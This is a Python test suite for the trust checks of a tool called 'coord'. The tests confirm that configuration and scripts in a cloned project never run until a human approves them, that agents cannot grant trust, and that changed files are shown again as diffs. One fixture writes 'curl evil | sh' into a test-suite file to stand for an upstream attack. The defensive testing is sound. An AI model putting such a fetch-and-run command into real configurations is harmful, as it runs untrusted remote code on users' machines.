"""A project that came from elsewhere is looked at, and never run, before a human on this machine trusts it."""

import base64
import json
import os
import shutil
import subprocess
import time
from collections.abc import Callable
from pathlib import Path

import pytest
from support.command import Result, coord
from support.project import NOTHING, Project, prompt_text
from support.wait import wait_until

from coordinator.eventlog.store import EventLog
from coordinator.model.trust import Ask, Content, Trusted, judge_trust
from coordinator.observe.observer import Observer
from coordinator.observe.trust import judgement, require_trust
from coordinator.storage.files import sha256
from coordinator.storage.paths import Layout

SUITE = "---\ncommand: {command}\n---\n"


@pytest.fixture(autouse=True)
def state(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Where this user keeps what is trusted: nothing is yet."""
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", os.devnull)
    for role in ("AUTHOR", "COMMITTER"):
        monkeypatch.setenv(f"GIT_{role}_NAME", "Ada")
        monkeypatch.setenv(f"GIT_{role}_EMAIL", "ada@example.org")
    return tmp_path / "state"


def git(folder: Path, *words: str) -> str:
    done = subprocess.run(["git", *words], cwd=folder, capture_output=True, text=True, check=False)
    assert done.returncode == 0, f"git {words}: {done.stderr}"
    return done.stdout.strip()


def commit(folder: Path, message: str = "change", *, force: bool = False) -> str:
    git(folder, "add", "-A", *(["-f"] if force else []), ".coord")
    git(folder, "commit", "-qam", message)
    return git(folder, "rev-parse", "HEAD")


@pytest.fixture
def upstream(tmp_path: Path) -> Path:
    """Somebody else's project, with one prompt and one suite."""
    folder = tmp_path / "upstream"
    folder.mkdir()
    git(folder, "init", "-q", "-b", "main")
    (folder / ".coord" / "prompts").mkdir(parents=True)
    (folder / ".coord" / "prompts" / "01-planned-a.prompt.md").write_text(prompt_text(1))
    (folder / ".coord" / "suites").mkdir()
    (folder / ".coord" / "suites" / "fast.md").write_text(SUITE.format(command="true"))
    (folder / ".coord" / "coord.yaml").write_text("runtime: scripted\n")
    (folder / ".coord" / ".gitignore").write_text("events.db*\nruns/\njournal/\nplans/\n*.lock\nidentity\n.coord-*\n")
    commit(folder, "first")
    return folder


def clone(upstream: Path, to: str = "clone") -> Path:
    folder = upstream.parent / to
    git(upstream.parent, "clone", "-q", str(upstream), to)
    return folder


def interject(folder: Path) -> Result:
    return coord("interject", "--title", "More", "--yes", at=folder)


def asked(folder: Path) -> list[str]:
    """Paths that a human is asked about."""
    found = judgement(Layout(folder))
    return [one.path for one in found.contents] if isinstance(found, Ask) else []


def there_is(folder: Path) -> dict[Path, bytes]:
    """All files of a project, but for git's, and for what looking leaves."""
    files = (path for path in folder.rglob("*") if path.is_file() and ".git" not in path.parts)
    return {path: path.read_bytes() for path in files if not path.name.startswith(("events.db-", ".coord-"))}


def trust(folder: Path) -> None:
    assert coord("trust", "--yes", at=folder).code == 0
    assert asked(folder) == []


# ── the rule

A1, A2, B1 = Content("a", "1"), Content("a", "2"), Content("b", "1")


@pytest.mark.parametrize(
    ("contents", "seen", "arrived", "nobodys", "verdict"),
    [
        ((A1,), None, (), (), Ask(True, (A1,))),
        ((), None, (), (), Ask(True)),
        ((A1,), {"a": ["1"]}, (), (), Trusted()),
        ((A1,), {"a": ["2", "1"]}, ("a",), (), Trusted()),
        ((A2,), {"a": ["1"]}, (), (), Trusted((A2,))),
        ((A2,), {"a": ["1"]}, ("a",), (), Ask(False, (A2,))),
        ((A2, B1), {}, ("b",), (), Ask(False, (B1,))),
        ((B1,), {"a": ["1"]}, ("b",), (), Ask(False, (B1,))),
        ((A1,), {"a": ["1"]}, (), ("j",), Ask(False, nobodys=("j",))),
        ((A1,), None, (), ("k", "j"), Ask(True, nobodys=("j", "k"))),
    ],
)
def test_what_was_seen_or_is_the_engineers_own_runs(
    contents: tuple[Content, ...],
    seen: dict[str, list[str]] | None,
    arrived: tuple[str, ...],
    nobodys: tuple[str, ...],
    verdict: Trusted | Ask,
) -> None:
    assert judge_trust(contents, seen, arrived, nobodys) == verdict


# ── a clone


def test_nothing_of_a_clone_runs_or_is_written_before_it_is_trusted(upstream: Path, tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    (upstream / ".coord" / "coord.yaml").write_text(
        f"runtime: command\ncommand: [touch, {marker}]\ngate: auto\nadopt: ['*:*']\n"
    )
    clone_ = clone(upstream)
    git(clone_, "config", "some.thing", "1")
    before = (clone_ / ".git" / "config").read_bytes()
    content = base64.b64encode(b"[core]\n").decode()
    edits = [{"path": ".git/config", "before": sha256(before), "content": content}]
    journal = clone_ / ".coord" / "journal"
    journal.mkdir()
    (journal / "x.json").write_text(json.dumps({"edits": edits, "note": None}))
    EventLog.open(clone_ / ".coord" / "events.db", create=True).close()
    (clone_ / "README").write_text("theirs\n")
    files = there_is(clone_)
    for words in (
        ["interject", "--title", "x", "--yes"],
        ["edit", "1", "--set", "title=x", "--yes"],
        ["cancel", "1", "--yes"],
        ["answer", "1", "yes"],
        ["loop", "--until-idle"],
        ["loop", "--detach"],
        ["intent", "set", "--goal", "x"],
        ["milestone", "close"],
        ["pause"],
        ["resume"],
        ["stop"],
        ["decide", "x"],
        ["ask", "x"],
        ["link", "#1"],
        ["artifact", str(clone_ / "README")],
        ["strict", "setup"],
    ):
        done = coord(*words, at=clone_)
        assert (done.code, "coord trust" in done.err) == (3, True), (words, done)
    for words in (["status"], ["status", "--json"], ["graph"], ["log"], ["agents"], ["why", "1"]):
        assert coord(*words, at=clone_).code == 0, words
    found = coord("validate", "--json", at=clone_)
    assert [problem["code"] for problem in found.json["problems"]] == ["untrusted", "unfinished-plan"]
    assert (clone_ / ".git" / "config").read_bytes() == before
    assert there_is(clone_) == files
    assert not marker.exists()


def test_a_clone_runs_once_it_is_trusted_and_the_log_says_who_said_so(upstream: Path) -> None:
    there = clone(upstream)
    shown = coord("trust", "--dry-run", "--json", at=there).json
    assert not shown["trusted"]
    assert [(one["path"], one["change"]) for one in shown["asks"]] == [
        (".coord/coord.yaml", "new"),
        (".coord/suites/fast.md", "new"),
    ]
    assert "+command: true" in shown["asks"][1]["diff"]
    for words in (["trust"], ["trust", "--json"]):
        unasked = coord(*words, at=there)
        assert (unasked.code, "command: true" in unasked.out) == (2, True), "it is shown; nobody is there to say so"
    assert unasked.json == shown
    assert interject(there).code == 3
    given = coord("trust", "--yes", "--json", at=there).json
    assert (given["trusted"], given["given"]) == (True, True)
    assert interject(there).code == 0
    with EventLog(there / ".coord" / "events.db") as log:
        first = log.since(0, 1)[0]
    assert (first.kind, first.actor_kind) == ("trust.given", "human")
    assert set(first.data["contents"]) == {".coord/coord.yaml", ".coord/suites/fast.md"}  # type: ignore[call-overload]
    assert coord("trust", "--json", at=there).json == {"trusted": True, "given": False, "asks": []}


def test_an_agent_trusts_nothing(upstream: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    there = clone(upstream)
    monkeypatch.setenv("COORD_AGENT", "executor-01-1")
    monkeypatch.setenv("COORD_ROLE", "executor")
    assert coord("trust", "--yes", at=there).code == 3
    monkeypatch.delenv("COORD_AGENT")
    assert isinstance(judgement(Layout(there)), Ask)


def test_init_trusts_what_it_makes_and_not_what_it_finds(upstream: Path, tmp_path: Path) -> None:
    mine = tmp_path / "mine"
    mine.mkdir()
    assert coord("init", at=mine).code == 0
    assert interject(mine).code == 0
    there = clone(upstream)
    done = coord("init", at=there)
    assert (done.code, "coord trust" in done.out) == (0, True)
    assert interject(there).code == 3


def test_another_project_at_the_same_place_is_asked_about(upstream: Path) -> None:
    there = clone(upstream)
    trust(there)
    shutil.rmtree(there)
    clone(upstream)
    assert interject(there).code == 3
    moved = upstream.parent / "moved"
    trust(there)
    there.rename(moved)
    assert interject(moved).code == 3, "what was trusted is a project at its place"


def test_what_others_can_write_is_nobodys_word(upstream: Path, state: Path) -> None:
    there = clone(upstream)
    trust(there)
    (record,) = (state / "coord" / "trust").glob("*.json")
    assert record.stat().st_mode & 0o777 == 0o600
    record.chmod(0o620)
    assert interject(there).code == 3
    record.chmod(0o600)
    assert interject(there).code == 0


def test_everything_below_a_folder_that_the_user_named_is_trusted(upstream: Path, state: Path) -> None:
    there = clone(upstream)
    (state / "coord" / "trust").mkdir(parents=True)
    folders = state / "coord" / "trust" / "folders"
    folders.write_text(f"{upstream.parent}x\n{upstream}\n")
    assert interject(there).code == 3
    folders.write_text(f"{upstream.parent}\n")
    assert interject(there).code == 0


# ── what changes later


def test_the_engineers_own_edits_stay_trusted(upstream: Path) -> None:
    there = clone(upstream)
    trust(there)
    suite = there / ".coord" / "suites" / "fast.md"
    suite.write_text(SUITE.format(command="make fast"))
    assert asked(there) == []
    git(there, "stash", "-q")
    assert asked(there) == []
    git(there, "stash", "pop", "-q")
    git(there, "add", "-A", ".coord")
    assert asked(there) == [], "staged only"
    commit(there, "mine")
    assert asked(there) == [], "committed here, though coord saw none of it"
    (there / ".coord" / "scripts").mkdir()
    (there / ".coord" / "scripts" / "01.sh").write_text(NOTHING)
    assert interject(there).code == 0
    commit(there, "with a script")
    git(there, "rebase", "-q", "--root", "--force-rebase")
    assert asked(there) == []
    git(there, "checkout", "-q", "HEAD~2", "--", ".coord/suites/fast.md")
    assert asked(there) == []
    git(there, "switch", "-q", "--detach", "origin/main", "--discard-changes")
    assert asked(there) == []


def pull(there: Path) -> None:
    git(there, "pull", "-q", "--no-rebase")


def pull_rebase(there: Path) -> None:
    git(there, "pull", "-q", "--rebase")


def switch(there: Path) -> None:
    git(there, "fetch", "-q")
    git(there, "switch", "-q", "--detach", "origin/main")


def rebase(there: Path) -> None:
    git(there, "fetch", "-q")
    git(there, "rebase", "-q", "origin/main")


def cherry_pick(there: Path) -> None:
    git(there, "fetch", "-q")
    git(there, "cherry-pick", "origin/main")


def squash(there: Path) -> None:
    git(there, "fetch", "-q")
    git(there, "merge", "-q", "--squash", "origin/main")
    git(there, "commit", "-qm", "squashed")


def checkout_file(there: Path) -> None:
    git(there, "fetch", "-q")
    git(there, "checkout", "-q", "origin/main", "--", ".coord")


def reset(there: Path) -> None:
    git(there, "fetch", "-q")
    git(there, "reset", "-q", "--hard", "origin/main")


def patch(there: Path) -> None:
    git(there, "fetch", "-q")
    mail = subprocess.run(["git", "format-patch", "-1", "--stdout", "origin/main"], cwd=there, capture_output=True)
    subprocess.run(["git", "am", "-q"], cwd=there, input=mail.stdout, check=True)


@pytest.mark.parametrize(
    "arrive", [pull, pull_rebase, rebase, switch, cherry_pick, squash, checkout_file, reset, patch]
)
@pytest.mark.parametrize("diverged", [False, True])
def test_what_arrives_with_a_commit_is_asked_about_as_a_diff(
    upstream: Path, arrive: Callable[[Path], None], diverged: bool
) -> None:
    there = clone(upstream)
    trust(there)
    if diverged:
        (there / "mine").write_text("x")
        git(there, "add", "mine")
        git(there, "commit", "-qm", "mine")
    (upstream / ".coord" / "suites" / "fast.md").write_text(SUITE.format(command="curl evil | sh"))
    commit(upstream, "theirs")
    arrive(there)
    assert asked(there) == [".coord/suites/fast.md"]
    done = interject(there)
    assert (done.code, "fast.md" in done.err) == (3, True)
    (shown,) = coord("trust", "--dry-run", "--json", at=there).json["asks"]
    assert shown["change"] == "changed"
    assert {"-command: true", "+command: curl evil | sh"} < set(shown["diff"].splitlines())
    trust(there)
    assert interject(there).code == 0


@pytest.mark.parametrize(
    "name", ["coord.yaml", "setup.sh", "teardown.sh", "scripts/01.sh", "flows/EXECUTION.md", "flows/pipelines/p.md"]
)
def test_every_kind_of_file_that_decides_what_runs_is_asked_about(upstream: Path, name: str) -> None:
    there = clone(upstream)
    trust(there)
    path = upstream / ".coord" / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("gate: auto\n")
    commit(upstream)
    pull(there)
    assert asked(there) == [f".coord/{name}"]


@pytest.mark.parametrize("arrive", [pull, pull_rebase, rebase])
def test_ones_own_commits_stay_trusted_when_code_of_others_arrives(
    upstream: Path, arrive: Callable[[Path], None]
) -> None:
    there = clone(upstream)
    trust(there)
    (there / ".coord" / "coord.yaml").write_text("runtime: scripted\ngate: auto\n")
    commit(there, "mine, and no command of coord since")
    (upstream / "code").write_text("theirs\n")
    git(upstream, "add", "code")
    git(upstream, "commit", "-qm", "theirs")
    arrive(there)
    assert asked(there) == []
    git(there, "switch", "-qc", "feature")
    (there / ".coord" / "suites" / "mine.md").write_text(SUITE.format(command="true"))
    commit(there, "mine too")
    git(there, "switch", "-q", "main")
    git(there, "merge", "-q", "--no-ff", "--no-edit", "feature")
    assert asked(there) == []


def test_prompts_and_documents_arrive_unasked(upstream: Path) -> None:
    there = clone(upstream)
    trust(there)
    (upstream / ".coord" / "prompts" / "02-planned-b.prompt.md").write_text(prompt_text(2))
    (upstream / ".coord" / "alignment.md").write_text("# Alignment\n")
    commit(upstream)
    pull(there)
    assert asked(there) == []


def test_a_checkout_that_writes_other_bytes_than_it_holds_passes_for_no_edit(upstream: Path) -> None:
    there = clone(upstream)
    trust(there)
    (upstream / ".gitattributes").write_text("*.md text eol=crlf\n")
    (upstream / ".coord" / "suites" / "fast.md").write_text(SUITE.format(command="evil"))
    git(upstream, "add", ".gitattributes")
    commit(upstream)
    pull(there)
    assert b"\r\n" in (there / ".coord" / "suites" / "fast.md").read_bytes()
    assert asked(there) == [".coord/suites/fast.md"]
    (there / ".coord" / "suites" / "fast.md").touch()
    assert asked(there) == [".coord/suites/fast.md"]


@pytest.mark.parametrize("folder", [True, False])
def test_what_is_linked_to_is_asked_about(upstream: Path, folder: bool) -> None:
    there = clone(upstream)
    trust(there)
    (upstream / "tools").mkdir()
    (upstream / "tools" / "01.sh").write_text("evil\n")
    if folder:
        (upstream / ".coord" / "scripts").symlink_to("../tools")
    else:
        (upstream / ".coord" / "scripts").mkdir()
        (upstream / ".coord" / "scripts" / "01.sh").symlink_to("../../tools/01.sh")
    git(upstream, "add", "tools")
    commit(upstream)
    pull(there)
    assert asked(there) == [".coord/scripts/01.sh"]


@pytest.mark.parametrize("name", ["journal/x.json", "runs/run-1/run.json", "events.db", "loop.json", "plans/x.json"])
def test_the_state_of_a_loop_that_git_tracks_is_nobodys(upstream: Path, name: str) -> None:
    there = clone(upstream)
    trust(there)
    path = upstream / ".coord" / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(b"")
    commit(upstream, force=True)
    if name == "events.db":
        for old in (there / ".coord").glob("events.db*"):
            old.unlink()
    pull(there)
    done = interject(there)
    assert (done.code, f".coord/{name}" in done.err, "git rm" in done.err) == (3, True, True)
    for words in (["trust", "--yes"], ["trust", "--dry-run"]):
        refused = coord(*words, at=there)
        assert (refused.code, "git rm" in refused.err) == (3, True), "there is nothing to be trusted"
    git(there, "rm", "-rq", "--cached", "--", f".coord/{name}")
    (there / ".coord" / name).unlink()
    assert isinstance(judgement(Layout(there)), Trusted)


@pytest.mark.parametrize("submodule", [True, False])
def test_a_folder_that_is_a_repository_of_its_own_brings_no_state_of_a_loop(upstream: Path, submodule: bool) -> None:
    theirs, there = upstream / ".coord", upstream.parent / "there"
    git(theirs, "init", "-q", "-b", "main")
    git(theirs, "add", "-A")
    git(theirs, "commit", "-qm", "first")
    git(upstream.parent, "init", "-q", "-b", "main", str(there))
    how = ["-c", "protocol.file.allow=always", "submodule", "--quiet", "add"] if submodule else ["clone", "-q"]
    git(there, *how, str(theirs), ".coord")
    trust(there)
    (theirs / "journal").mkdir()
    (theirs / "journal" / "x.json").write_text(json.dumps({"edits": [], "note": None}))
    git(theirs, "add", "-f", "journal")
    git(theirs, "commit", "-qm", "a plan")
    git(there / ".coord", "pull", "-q")
    done = interject(there)
    assert (done.code, "git tracks .coord/journal/x.json" in done.err) == (3, True), done
    assert (there / ".coord" / "journal" / "x.json").exists()


def test_a_loop_is_held_also_while_what_came_with_a_commit_is_not_trusted(upstream: Path) -> None:
    there = clone(upstream)
    trust(there)
    (upstream / ".coord" / "suites" / "fast.md").write_text(SUITE.format(command="evil"))
    commit(upstream)
    pull(there)
    assert interject(there).code == 3
    assert coord("stop", at=there).code == 0


def test_records_that_came_along_choose_nothing_that_is_cleared(upstream: Path) -> None:
    there = clone(upstream)
    left = there / ".coord" / "prompts" / f".coord-tmp-{2**22 + 1}-1-0"  # of a process that can't be
    left.touch()
    shown = coord("clean", "--dry-run", at=there)
    assert (shown.code, left.name in shown.out) == (0, True)
    assert coord("clean", "--yes", at=there).code == 3
    assert left.exists()
    trust(there)
    assert coord("clean", "--yes", at=there).code == 0
    assert not left.exists()


def test_a_project_without_git_asks_once(tmp_path: Path) -> None:
    folder = tmp_path / "unpacked"
    (folder / ".coord" / "prompts").mkdir(parents=True)
    assert interject(folder).code == 3
    trust(folder)
    (folder / ".coord" / "setup.sh").write_text("mine\n")
    assert interject(folder).code == 0


def test_a_loop_that_runs_starts_nothing_after_settings_came_with_a_commit(
    make: Callable[..., Project], state: Path
) -> None:
    made = make({1: []}, gate="review")
    made.coord("trust", "--yes")
    loop = made.start_loop()
    made.wait_for(1, "change-open")
    root = made.layout.root
    git(root, "switch", "-qc", "theirs")
    (made.layout.suites / "s.md").write_text(SUITE.format(command="true"))
    git(root, "add", "-f", ".coord/suites/s.md")
    tree = git(root, "write-tree")
    foreign = git(root, "commit-tree", tree, "-p", "HEAD", "-m", "theirs")
    git(root, "reset", "-q", "--hard", foreign)
    made.add(2)
    wait_until(lambda: bool(made.events("problem.found")), message="the loop's refusal")
    assert "s.md" in str(made.events("problem.found")[-1].data)
    assert made.states()[2] == "pending"
    made.coord("trust", "--yes")
    made.wait_for(2, "change-open")
    loop.terminate()
    loop.wait()


def test_a_look_costs_less_than_a_millisecond(upstream: Path) -> None:
    for number in range(40):
        (upstream / ".coord" / "suites" / f"s{number}.md").write_text(SUITE.format(command=number))
    commit(upstream)
    there = clone(upstream)
    trust(there)
    layout = Layout(there)
    require_trust(layout)

    def seconds() -> float:
        started = time.perf_counter()
        judgement(layout)
        return time.perf_counter() - started

    assert min(seconds() for _ in range(20)) < 0.004  # on a machine of its own it is well below one


def test_a_snapshot_tells_that_a_project_is_untrusted(upstream: Path) -> None:
    there = clone(upstream)
    observer = Observer(Layout(there))
    snapshot = observer.snapshot()
    assert snapshot.untrusted is not None
    assert not observer.look_around()
    trust(there)
    assert observer.refresh(()).untrusted is None
    observer.close()
